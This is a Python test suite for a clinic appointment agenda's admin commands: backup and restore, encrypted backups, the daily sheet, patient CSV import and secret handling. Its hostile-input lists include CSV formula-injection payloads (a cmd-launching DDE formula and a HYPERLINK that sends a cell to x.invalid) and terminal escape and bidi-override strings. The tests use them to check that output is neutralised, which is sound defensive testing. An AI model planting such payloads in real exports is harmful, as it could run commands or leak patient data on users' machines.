"""The admin's commands ("Configuration and CLI"): backup, restore, the day sheet, patient import, the
secret and status, through click's CliRunner on each test's own database.
"""

import csv
import datetime as dt
import io
import os
import re
import sqlite3
import stat
import threading
import time

import pytest
from click.testing import CliRunner
from hypothesis import given, strategies as st

import agenda
from _agenda.storage.shipped import read_schema, schema_sections
from _agenda.values.printing import FORMULA_STARTS, sheet_csv
from conftest import CLINIC_CSV, MADRID, MONDAY, SECRET, Clock, send, sign, valid_dni
from openapi_contract import checked


@pytest.fixture
def runner(db_path):
    return CliRunner(env={"AGENDA_DB": str(db_path), "AGENDA_SECRET": None, "AGENDA_SECRET_FILE": None})


def invoke(runner, *args, now=MONDAY, **kwargs):
    return runner.invoke(agenda.cli, [str(arg) for arg in args], obj={"now": Clock(now)},
                         catch_exceptions=False, **kwargs)


def mode(path):
    return stat.S_IMODE(os.stat(path).st_mode)


def query(path, sql, *params):
    conn = sqlite3.connect(path)
    try:
        return conn.execute(sql, params).fetchall()
    finally:
        conn.close()


def book_some(api):
    """Three live appointments on Tuesday 24/11 and one cancelled: a small day to look at."""
    ana = api.new_patient(nif=valid_dni(1), name="Ana", surname="García", phone="612345678")
    jose = api.new_patient(nif=valid_dni(2), name="José", surname="Núñez", phone="699111222")
    luis = api.new_patient(nif=valid_dni(3), name="Luis", surname=None, phone=None)
    api.book(ana, time="09:00", reason="Revisión")
    confirmed = api.book(jose, time="09:30", reason="Dolor de espalda")
    api.post("/appointments/confirm", {"appointmentId": confirmed, "confirmed": True})
    api.book(luis, time="09:00", doctor="RUIZ", reason=None)
    gone = api.book(luis, time="10:00")
    api.delete(f"/appointments/{gone}")
    return ana, jose, luis


# agenda backup

def test_backup_writes_a_checked_private_copy_and_says_what_it_holds(api, runner, db_path, tmp_path):
    book_some(api)
    dest = tmp_path / "copy.db"
    result = invoke(runner, "backup", dest)
    assert result.exit_code == 0, result.output
    assert mode(dest) == 0o600
    assert query(dest, "PRAGMA integrity_check") == [("ok",)]
    assert query(dest, "SELECT count(*) FROM appointments") == [(4,)]
    assert "4 appointments (3 not cancelled), 3 patients" in result.output and str(dest) in result.output
    assert not [name for name in os.listdir(tmp_path) if "partial" in name]  # no temporary left behind
    status = invoke(runner, "status")
    assert str(dest) in status.output


def test_backup_to_a_folder_writes_dated_files_and_keeps_the_newest(api, runner, db_path, tmp_path):
    folder = tmp_path / "backups"
    folder.mkdir()
    (folder / "notes.txt").write_text("not a backup")
    written = []
    for hour in range(4):
        result = invoke(runner, "backup", folder, "--keep", 2, now=MONDAY + dt.timedelta(hours=hour))
        assert result.exit_code == 0, result.output
        written.append(folder / (db_path.stem + (MONDAY + dt.timedelta(hours=hour))  # the clinic's time
                                 .strftime("-%Y%m%d-%H%M%S.db")))
        os.utime(written[-1], (1_000_000 + hour, 1_000_000 + hour))
    assert sorted(os.listdir(folder)) == sorted(["notes.txt", written[2].name, written[3].name])
    assert "Deleted" in result.output


def test_backup_refuses_keep_without_a_folder_and_a_missing_database(runner, db_path, tmp_path):
    missing = invoke(runner, "backup", tmp_path / "copy.db")
    assert missing.exit_code == 1 and "no such database" in missing.output
    assert not db_path.exists() and not (tmp_path / "copy.db").exists()  # a typo makes no empty database
    agenda.open_database(db_path).close()
    result = invoke(runner, "backup", tmp_path / "copy.db", "--keep", 3)
    assert result.exit_code == 1 and "give a folder" in result.output
    onto_itself = invoke(runner, "backup", db_path)
    assert onto_itself.exit_code == 1 and "the database itself" in onto_itself.output
    assert "Traceback" not in result.output


def test_backup_during_a_stream_of_bookings_holds_every_booking_answered_before_it(api, server, runner,
                                                                                  tmp_path):
    """A live waitress server books one slot after another while the backup runs."""
    slots = [(f"{day:02d}/12/2026", doctor, time_text)
             for day in (1, 2, 3, 4, 9, 10, 11)
             for doctor, times in (("MARTIN", ("09:00", "09:30", "10:00", "10:30")),
                                   ("RUIZ", ("09:00", "09:20", "09:40")))
             for time_text in times]
    people = [api.new_patient(nif=valid_dni(100 + n), phone=f"61{n:07d}") for n in range(len(slots))]
    answered, stop = [], threading.Event()

    def book_stream():
        for (date, doctor, time_text), patient in zip(slots, people):
            if stop.is_set():
                return
            status, payload = send(server, "POST", "/appointments",
                                   {"date": date, "time": time_text, "doctorId": doctor, "patientId": patient})
            assert status == 201, payload
            answered.append(payload["appointmentId"])

    booker = threading.Thread(target=book_stream)
    booker.start()
    try:
        deadline = time.monotonic() + 120  # ten answered bookings; a minute or more on a busy machine
        while len(answered) < 10 and time.monotonic() < deadline:
            time.sleep(0.01)
        before = list(answered)
        result = invoke(runner, "backup", tmp_path / "live.db")
    finally:
        stop.set()
        booker.join(timeout=30)
    assert result.exit_code == 0, result.output
    assert len(before) >= 10
    copy = tmp_path / "live.db"
    assert query(copy, "PRAGMA integrity_check") == [("ok",)]
    in_copy = {str(row[0]) for row in query(copy, "SELECT id FROM appointments")}
    assert set(before) <= in_copy
    assert in_copy <= set(answered)  # nothing half-made: every row in the copy was answered 201


# agenda restore

def test_backup_names_are_the_clinics_time_whatever_the_machines_zone(api, runner, db_path, tmp_path, monkeypatch):
    """A server kept in UTC names the 08:00 backup of a clinic in Madrid ...-080000, as `agenda status`
    shows times; and --tz names it in that zone."""
    monkeypatch.setenv("TZ", "UTC")
    time.tzset()
    try:
        assert invoke(runner, "backup", f"{tmp_path}/b/").exit_code == 0
        assert invoke(runner, "backup", f"{tmp_path}/c/", "--tz", "Atlantic/Canary").exit_code == 0
    finally:
        monkeypatch.undo()
        time.tzset()
    assert os.listdir(tmp_path / "b") == [f"{db_path.stem}-20261123-080000.db"]
    assert os.listdir(tmp_path / "c") == [f"{db_path.stem}-20261123-070000.db"]


def test_after_a_restore_status_still_knows_the_last_backup(api, runner, db_path, tmp_path):
    invoke(runner, "backup", tmp_path / "monday.db")
    invoke(runner, "backup", tmp_path / "later.db", now=MONDAY + dt.timedelta(hours=3))
    api.app.clinic.db.close()
    assert invoke(runner, "restore", tmp_path / "monday.db", "--yes", now=MONDAY + dt.timedelta(hours=4)).exit_code == 0
    status = invoke(runner, "status", now=MONDAY + dt.timedelta(hours=5)).output
    assert re.search(r"Last backup: .*later\.db", status), status


def test_restore_brings_a_backup_back_and_keeps_the_current_database_aside(api, runner, db_path, tmp_path):
    book_some(api)
    invoke(runner, "backup", tmp_path / "monday.db")
    api.new_patient(nif=valid_dni(50), phone="611000050")  # a change after the backup
    api.app.clinic.db.close()
    result = invoke(runner, "restore", tmp_path / "monday.db", "--yes", now=MONDAY + dt.timedelta(hours=1))
    assert result.exit_code == 0, result.output
    assert "4 appointments (3 not cancelled), 3 patients" in result.output
    assert "replica" not in result.output  # a reminder for a restore from the replica only
    aside = tmp_path / f"{db_path.name}.before-restore-{MONDAY + dt.timedelta(hours=1):%Y%m%d-%H%M%S}"
    assert f"kept as {aside}" in result.output
    assert query(aside, "SELECT count(*) FROM patients") == [(4,)]   # the replaced one, whole
    assert query(db_path, "SELECT count(*) FROM patients") == [(3,)]
    assert query(db_path, "PRAGMA journal_mode") == [("wal",)]
    assert query(db_path, "SELECT action FROM events ORDER BY id DESC LIMIT 1") == [("database.restored",)]
    assert mode(db_path) == 0o600 and mode(aside) == 0o600


def not_a_backup(tmp_path, kind):
    path = tmp_path / f"{kind}.db"
    if kind == "garbage":
        path.write_bytes(b"SQLite format 3\x00" + os.urandom(4096))
    elif kind == "other-sqlite":
        query(path, "CREATE TABLE notes (text)")
    elif kind == "newer":
        agenda.open_database(path).close()
        query(path, "PRAGMA user_version = 99")
    elif kind == "corrupt":
        agenda.open_database(path).close()
        conn = sqlite3.connect(path)
        conn.execute("PRAGMA journal_mode = DELETE")
        conn.executemany("INSERT INTO events (at, source, action, entity) VALUES ('x', 'cli', ?, 'e')",
                         [("x" * 500,)] * 200)
        conn.commit()
        conn.close()
        data = bytearray(path.read_bytes())
        data[4096 * 3:4096 * 3 + 64] = b"\xff" * 64  # scribble over a page of the events table
        path.write_bytes(bytes(data))
    return path


@pytest.mark.parametrize("kind,why", [("garbage", "not a readable SQLite database"),
                                      ("other-sqlite", "not an agenda database"),
                                      ("newer", "newer than this agenda"),
                                      ("corrupt", "")])
def test_restore_refuses_a_bad_file_and_changes_nothing(api, runner, db_path, tmp_path, kind, why):
    book_some(api)
    api.app.clinic.db.close()
    before = db_path.read_bytes()
    bad = not_a_backup(tmp_path, kind)
    result = invoke(runner, "restore", bad, "--yes")
    assert result.exit_code == 1, result.output
    assert "nothing changed" in result.output and why in result.output
    assert "Traceback" not in result.output
    assert db_path.read_bytes() == before
    assert not [name for name in os.listdir(tmp_path) if "before-restore" in name or "restoring" in name]


def test_restore_refuses_while_the_service_has_the_database_open(api, runner, db_path, tmp_path):
    book_some(api)
    invoke(runner, "backup", tmp_path / "copy.db")
    api.db().execute("SELECT 1").fetchone()  # the running app holds a connection
    result = invoke(runner, "restore", tmp_path / "copy.db", "--yes")
    assert result.exit_code == 1 and "stop it first" in result.output
    assert not [name for name in os.listdir(tmp_path) if "before-restore" in name]


def test_restore_asks_first_and_a_no_changes_nothing(api, runner, db_path, tmp_path):
    book_some(api)
    invoke(runner, "backup", tmp_path / "copy.db")
    api.app.clinic.db.close()
    result = invoke(runner, "restore", tmp_path / "copy.db", input="n\n")
    assert result.exit_code == 1 and "Replace" in result.output and "Aborted" in result.output
    assert not [name for name in os.listdir(tmp_path) if "before-restore" in name]


# agenda day

def test_day_sheet_groups_live_appointments_by_doctor(api, runner):
    book_some(api)
    result = invoke(runner, "day", "24/11/2026")
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert lines[0] == "Tuesday 24/11/2026, all centers: 3 appointments"
    martin = lines.index("Lucía Martín (MARTIN)")
    ruiz = lines.index("Javier Ruiz (RUIZ)")
    assert lines[martin + 1].split() == ["09:00", "Ana", "García", "+34612345678", "booked", "Revisión", "[C1]"]
    assert lines[martin + 2].split()[:6] == ["09:30", "José", "Núñez", "+34699111222", "confirmed", "Dolor"]
    assert lines[ruiz + 1].split() == ["09:00", "Luis", "booked", "-", "[C1]"]
    assert "10:00" not in result.output  # the cancelled one is not on the sheet


def test_day_sheet_as_csv_for_a_spreadsheet_and_by_center(api, runner):
    book_some(api)
    result = invoke(runner, "day", "2026-11-24", "--csv", "--center", "C1")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output)))
    assert [(row["time"], row["doctor_id"], row["patient"], row["status"]) for row in rows] == [
        ("09:00", "RUIZ", "Luis", "booked"),  # doctors by name: Javier Ruiz, then Lucía Martín
        ("09:00", "MARTIN", "Ana García", "booked"), ("09:30", "MARTIN", "José Núñez", "confirmed")]
    # a phone's leading + would start a formula: the ' keeps it text, shown as +34612345678
    assert rows[1]["date"] == "24/11/2026" and rows[1]["phone"] == "'+34612345678"
    other_center = invoke(runner, "day", "24/11/2026", "--center", "C2")
    assert other_center.output.startswith("Tuesday 24/11/2026, center C2: 0 appointments")


HOSTILE_CELLS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.invalid/?"&A1,"ver")', "@SUM(1+1)*cmd|' /C calc'!A0",
                 "-2+3", "+34+1", "\tTAB=1+1", "\r=1+1"]
HOSTILE_TERMINAL = ["\x1b[2JBorrado", "\x1b]0;titulo\x07Ana", "\x1b]8;;http://x.invalid\x1b\\enlace\x1b]8;;\x1b\\",
                    "Dolor\n  09:30  Falsa Cita  +34600000000  confirmed  Revisión", "\u202eodatnemurtsni", "a\x00b\x7fc"]


def hostile_day(make_api, doctor_name):
    """A day whose doctor, patients' names and reasons are hostile: written into the database as a clinic's
    older data may hold them, since no channel takes a control character now ("Text fields")."""
    api = make_api()
    texts = HOSTILE_CELLS + HOSTILE_TERMINAL
    conn = api.db()
    for n, text in enumerate(texts[:4]):
        patient = api.new_patient(nif=valid_dni(10 + n), name="P", phone=None)
        appointment = api.book(patient, time=("09:00", "09:30", "10:00", "10:30")[n])
        conn.execute("UPDATE patients SET name = ?, surname = ? WHERE id = ?", (text, texts[-1 - n], patient))
        conn.execute("UPDATE appointments SET reason = ? WHERE id = ?", (texts[4 + n], appointment))
    conn.execute("UPDATE doctors SET name = ? WHERE id = 'MARTIN'", (doctor_name,))
    conn.commit()
    return api


@pytest.mark.parametrize("doctor_name", ["=cmd|' /C calc'!A0", "@SUM(1)", "\x1b[31mRojo"])
def test_the_day_sheets_csv_neutralises_every_cell_a_spreadsheet_would_run(make_api, runner, doctor_name):
    hostile_day(make_api, doctor_name)
    result = invoke(runner, "day", "2026-11-24", "--csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.output)))
    assert len(rows) == 5
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], cells
    patients = [row[6] for row in rows[1:]]
    assert [cell[:1] for cell in patients] == ["'"] * 4 and patients[0].startswith("'=cmd|' /C calc'!A0 ")
    assert [row[8] for row in rows[1:]][0::2] == ["'+34+1", "'\r=1+1"] and rows[1][4] != doctor_name
    assert result.output.startswith('"date","time","end","doctor_id",')  # every cell quoted


@pytest.mark.parametrize("doctor_name", ["\x1b]0;owned\x07Lucía", "Lucía\nMARTIN  09:00  Falso"])
def test_the_day_sheets_text_strips_control_characters_and_keeps_each_appointment_on_its_line(
        make_api, runner, doctor_name):
    hostile_day(make_api, doctor_name)
    result = invoke(runner, "day", "2026-11-24")
    assert result.exit_code == 0, result.output
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", result.output), repr(result.output)
    lines = result.output.splitlines()
    assert lines[0] == "Tuesday 24/11/2026, all centers: 4 appointments"
    appointments = [line for line in lines if re.match(r"  \d\d:\d\d  ", line)]
    assert [line[2:7] for line in appointments] == ["09:00", "09:30", "10:00", "10:30"]
    assert len([line for line in lines if line and not line.startswith("  ")]) == 2  # the title and one doctor


@given(st.text())
def test_a_sheet_cell_never_starts_a_formula_and_reads_back_as_written(text):
    rows = list(csv.reader(io.StringIO(sheet_csv(["x"], [[text]]), newline="")))
    value = rows[1][0] if len(rows) > 1 else ""
    assert not value.startswith(FORMULA_STARTS)
    assert value == text or value == "'" + text


def test_day_sheet_defaults_to_today_in_clinic_time(api, runner):
    book_some(api)
    late_monday_utc = dt.datetime(2026, 11, 23, 23, 30, tzinfo=MADRID).astimezone(dt.timezone.utc)
    assert invoke(runner, "day", now=late_monday_utc).output.startswith("Monday 23/11/2026")
    tuesday = dt.datetime(2026, 11, 24, 0, 30, tzinfo=MADRID)
    assert invoke(runner, "day", now=tuesday).output.startswith("Tuesday 24/11/2026, all centers: 3")


@pytest.mark.parametrize("args,message", [(["31/02/2026"], "not a date"), (["tomorrow"], "not a date"),
                                          (["24/11/2026", "--center", "XX"], "no center 'XX'"),
                                          (["--tz", "Mars/Base"], "unknown time zone")])
def test_day_sheet_mistakes_are_one_clear_message(api, runner, args, message):
    result = invoke(runner, "day", *args)
    assert result.exit_code == 1 and message in result.output and "Traceback" not in result.output


# agenda import-patients

def patients_file(tmp_path, text, encoding="utf-8", name="patients.csv"):
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


def test_import_reads_a_latin1_semicolon_file_from_another_system(runner, db_path, tmp_path):
    agenda.open_database(db_path).close()
    source = patients_file(tmp_path, "Nombre;Apellidos;Fecha nacimiento;DNI;Teléfono\r\n"
                                     f"José;Núñez Peña;1/2/1980;{valid_dni(7)};612 345 678\r\n"
                                     f"María;;;{valid_dni(8)};\r\n", encoding="latin-1")
    result = invoke(runner, "import-patients", source)
    assert result.exit_code == 0, result.output
    assert "Imported 2 patients" in result.output
    assert query(db_path, "SELECT name, surname, birth_date, nif, phone_e164 FROM patients ORDER BY id") == [
        ("José", "Núñez Peña", "1980-02-01", valid_dni(7), "+34612345678"),
        ("María", None, None, valid_dni(8), None)]
    assert query(db_path, "SELECT action, source FROM events") == [("patients.imported", "cli")]


def test_import_is_all_or_nothing_and_names_each_bad_line(runner, db_path, tmp_path):
    agenda.open_database(db_path).close()
    source = patients_file(tmp_path, "\ufeffname,surname,birthDate,nif,phone\n"
                                     f"Ana,López,01/02/1980,{valid_dni(1)},612345678\n"
                                     "Bad,Letter,01/02/1980,12345678A,612345678\n"
                                     f"Bad,Date,31/02/1980,{valid_dni(2)},612345678\n"
                                     f"Bad,Phone,01/02/1980,{valid_dni(3)},12\n"
                                     f",NoName,01/02/1980,{valid_dni(4)},612345678\n"
                                     f"Twin,López,01/02/1980,{valid_dni(1)},612345678\n"
                                     f"Future,Born,01/02/2030,{valid_dni(5)},612345678\n")
    result = invoke(runner, "import-patients", source)
    assert result.exit_code == 1
    for expected in ("line 3: nif is not a valid DNI", "line 4: birthDate", "line 5: phone",
                     "line 6: name is required", "line 7: the same nif as line 2", "line 8: birthDate is in"):
        assert expected in result.output, result.output
    assert "6 bad rows; nothing was imported" in result.output
    assert query(db_path, "SELECT count(*) FROM patients") == [(0,)]


def test_import_dry_run_writes_nothing_and_a_known_nif_is_never_doubled(api, runner, db_path, tmp_path):
    known = api.new_patient(nif=valid_dni(1))
    source = patients_file(tmp_path, "name,nif\n" f"Ana,{valid_dni(1)}\n" f"Eva,{valid_dni(2)}\n")
    dry = invoke(runner, "import-patients", source, "--dry-run")
    assert dry.exit_code == 0 and "1 patient would be imported;" in dry.output
    assert f"line 2: already in the agenda as patient {known}" in dry.output
    assert query(db_path, "SELECT count(*) FROM patients") == [(1,)]
    for _ in range(2):  # importing the same file twice doubles nobody
        result = invoke(runner, "import-patients", source)
        assert result.exit_code == 0
    assert query(db_path, "SELECT nif FROM patients ORDER BY id") == [(valid_dni(1),), (valid_dni(2),)]


@pytest.mark.parametrize("text,message", [("", "empty"), ("nombre,telefono\nAna,612345678\n", "no nif column"),
                                          ("nif," * 15_000 + "\nAna\n", "more than 1,000 characters long")])
def test_import_of_an_unusable_file_is_one_clear_message(runner, db_path, tmp_path, text, message):
    agenda.open_database(db_path).close()
    result = invoke(runner, "import-patients", patients_file(tmp_path, text))
    assert result.exit_code == 1 and message in result.output and "Traceback" not in result.output
    missing = invoke(runner, "import-patients", tmp_path / "nope.csv")
    assert missing.exit_code == 1 and "no such file" in missing.output


def test_import_of_20000_patients(runner, db_path, tmp_path):
    """Thousands of rows in one file, all imported (a 100,000-row import's time and memory: bench/)."""
    agenda.open_database(db_path).close()
    lines = ["name,surname,birthDate,nif,phone"] + [
        f"Paciente{n},Núñez,{1 + n % 28:02d}/{1 + n % 12:02d}/{1940 + n % 60},{valid_dni(30_000_000 + n)},6{n:08d}"
        for n in range(20_000)]
    source = patients_file(tmp_path, "\n".join(lines) + "\n")
    result = invoke(runner, "import-patients", source)
    assert result.exit_code == 0, result.output[-500:]
    assert "Imported 20,000 patients" in result.output and "Checked 20,000 rows" in result.output
    assert query(db_path, "SELECT count(*), count(DISTINCT nif) FROM patients") == [(20_000, 20_000)]
    assert query(db_path, "SELECT phone_e164 FROM patients WHERE nif = ?", valid_dni(30_012_345)) == [
        ("+34600012345",)]


# agenda secret set, agenda status

def test_secret_set_stores_it_owner_only_and_run_uses_it(runner, db_path, tmp_path):
    result = invoke(runner, "secret", "set", input="  the-clinic-shared-secret \n")
    assert result.exit_code == 0, result.output
    stored = db_path.with_suffix(".secret")
    assert mode(stored) == 0o600 and stored.read_text() == "the-clinic-shared-secret\n"
    assert "the-clinic-shared-secret" not in result.output
    served = {}
    agenda.open_database(db_path).close()
    started = runner.invoke(agenda.cli, ["run"], obj={"serve": lambda app, **options: served.update(app=app)},
                            catch_exceptions=False)
    assert started.exit_code == 0, started.output
    import webtest
    client = webtest.TestApp(checked(served["app"]))
    assert client.get("/custom-config", headers={"X-Signature": sign(b"", "the-clinic-shared-secret", "GET", "/custom-config")}).status_int == 200
    assert client.get("/custom-config", headers={"X-Signature": sign(b"", SECRET, "GET", "/custom-config")}, expect_errors=True).status_int == 401


def test_secret_set_refuses_an_empty_secret_and_run_a_file_others_can_read(runner, db_path):
    empty = invoke(runner, "secret", "set", input="\n")
    assert empty.exit_code == 1 and "no secret given" in empty.output
    assert not db_path.with_suffix(".secret").exists()
    invoke(runner, "secret", "set", input="short\n")
    os.chmod(db_path.with_suffix(".secret"), 0o644)
    agenda.open_database(db_path).close()
    refused = runner.invoke(agenda.cli, ["run"], obj={"serve": lambda app, **options: None})
    assert refused.exit_code == 1 and "chmod 600" in refused.output


def test_status_shows_counts_the_last_cycle_the_scheme_seen_and_the_last_backup(api, runner, db_path, tmp_path):
    book_some(api)
    fresh = invoke(runner, "status")
    assert "no signed request seen yet" not in fresh.output  # the bookings above were signed
    assert "signs whole requests" in fresh.output and "none yet" in fresh.output
    api.post("/appointments/end-of-reminder-day", {"voiceAgentConfigId": "va-1", "date": "24/11/2026"})
    invoke(runner, "backup", tmp_path / "nightly.db")
    result = invoke(runner, "status")
    assert result.exit_code == 0, result.output
    output = result.output
    newest = schema_sections(read_schema())[-1][0]
    assert str(db_path) in output and f"schema version {newest}" in output
    assert "Patients:     3\n" in output
    assert "Appointments: 4: 0 booked, 1 confirmed, 2 unanswered, 1 cancelled" in output  # "End of a reminder day" flag
    assert "for 24/11/2026: 2 handled (flag)" in output
    assert "the default scheme, `request`" in output and "only bodies" not in output
    assert str(tmp_path / "nightly.db") in output
    assert "no stored secret" in output


def test_status_never_recommends_the_body_scheme_once_the_caller_signed_a_request(make_api, runner):
    """Signatures: under `auto`, a caller seen signing bodies is told to sign requests; once it
    signs a request, status speaks of that scheme only."""
    api = make_api(signature_scheme="auto")
    assert invoke(runner, "status").output.count("no signed request seen yet") == 1
    assert api.get("/custom-config", signature="body").status_int == 200
    body_only = invoke(runner, "status").output
    assert "only bodies" in body_only and "ask the caller to sign requests" in body_only
    assert "--signature-scheme body" not in body_only.replace("under --signature-scheme body", "")
    assert api.get("/custom-config", signature="request").status_int == 200
    assert api.get("/custom-config", signature="body").status_int == 200
    both = invoke(runner, "status").output
    assert "signs whole requests" in both and "only bodies" not in both


def test_a_dry_run_import_checks_its_rows_without_taking_the_write_lock(api, runner, db_path, tmp_path):
    """A long dry run over a big file never holds up the live server's bookings ("Patient import")."""
    patients = tmp_path / "patients.csv"
    patients.write_text(f"name,nif\nAna,{valid_dni(9)}\n", encoding="utf-8")
    writer = sqlite3.connect(db_path, isolation_level=None)
    writer.execute("BEGIN IMMEDIATE")  # the live server, in the middle of a booking
    try:
        result = invoke(runner, "import-patients", patients, "--dry-run")
    finally:
        writer.execute("ROLLBACK")
        writer.close()
    assert result.exit_code == 0 and "1 patient would be imported" in result.output, result.output
    assert query(db_path, "SELECT count(*) FROM patients WHERE nif = ?", valid_dni(9)) == [(0,)]


# Encrypted backups ("Encrypted backups")

def age_key(tmp_path, name):
    """A new age identity written to a key file as age-keygen writes it; (key file, recipient)."""
    pyrage = pytest.importorskip("pyrage", reason="pyrage is the `encrypt` extra; '.[test]' installs it")
    identity = pyrage.x25519.Identity.generate()
    key = tmp_path / f"{name}.key"
    key.write_text(f"# created: for a test\n# public key: {identity.to_public()}\n{identity}\n")
    key.chmod(0o600)  # as age-keygen makes it
    return key, str(identity.to_public())


def test_an_encrypted_backup_holds_nothing_readable_and_restores_only_with_its_key(api, runner, db_path, tmp_path):
    book_some(api)
    key, recipient = age_key(tmp_path, "clinic")
    other_key, other = age_key(tmp_path, "someone-else")
    usb = tmp_path / "usb"
    usb.mkdir()
    made = invoke(runner, "backup", f"{usb}/", "--encrypt-to", recipient, "--encrypt-to", other)
    assert made.exit_code == 0, made.output
    (sealed,) = usb.iterdir()
    assert sealed.name == f"{db_path.stem}-20261123-080000.db.age" and mode(sealed) == 0o600
    data = sealed.read_bytes()
    assert data.startswith(b"age-encryption.org/v1") and b"SQLite format 3" not in data and b"Garc" not in data
    assert not [path for path in db_path.parent.iterdir() if path.name.startswith(".backup-")]  # no clear copy left
    assert "20261123-080000.db.age" in invoke(runner, "status").output
    api.new_patient(nif=valid_dni(60), phone="611000060")  # a change after the backup
    api.app.clinic.db.close()
    before = query(db_path, "SELECT count(*) FROM patients")
    unkeyed = invoke(runner, "restore", sealed, "--yes")
    assert unkeyed.exit_code == 1 and "is encrypted: give the key that opens it, --identity KEYFILE" in unkeyed.output
    stranger, _ = age_key(tmp_path, "stranger")
    wrong = invoke(runner, "restore", sealed, "--identity", stranger, "--yes")
    assert wrong.exit_code == 1 and "cannot be opened with that key" in wrong.output
    assert query(db_path, "SELECT count(*) FROM patients") == before  # a wrong key changes nothing
    assert not [path for path in db_path.parent.iterdir() if path.name.startswith(".restore-")]
    restored = invoke(runner, "restore", sealed, "--identity", other_key, "--yes")  # either recipient opens it
    assert restored.exit_code == 0, restored.output
    assert "4 appointments (3 not cancelled), 3 patients" in restored.output
    assert query(db_path, "SELECT count(*) FROM patients") == [(3,)] and mode(db_path) == 0o600


def test_a_backup_to_no_real_recipient_writes_nothing(api, runner, db_path, tmp_path):
    age_key(tmp_path, "unused")
    refused = invoke(runner, "backup", f"{tmp_path}/out/", "--encrypt-to", "age1notakey")
    assert refused.exit_code == 1 and "is not an age recipient" in refused.output
    assert not (tmp_path / "out").exists() or not list((tmp_path / "out").iterdir())


def test_run_takes_the_clinics_network_for_the_desks_login_lane_and_refuses_a_range_it_cannot_read(runner, db_path):
    agenda.open_database(db_path).close()
    served = {}
    started = runner.invoke(agenda.cli, ["run", "--desk-network", "192.168.1.0/24, 10.0.0.7"],
                            obj={"serve": lambda app, **options: served.update(app=app)},
                            env={"AGENDA_SECRET": SECRET}, catch_exceptions=False)
    assert started.exit_code == 0, started.output
    assert [str(net) for net in served["app"].accounts.networks] == ["192.168.1.0/24", "10.0.0.7/32"]
    refused = runner.invoke(agenda.cli, ["run"], obj={"serve": lambda app, **options: None},
                            env={"AGENDA_SECRET": SECRET, "AGENDA_DESK_NETWORK": "la recepción"})
    assert refused.exit_code == 1 and "is not an address range (try 192.168.1.0/24)" in refused.output
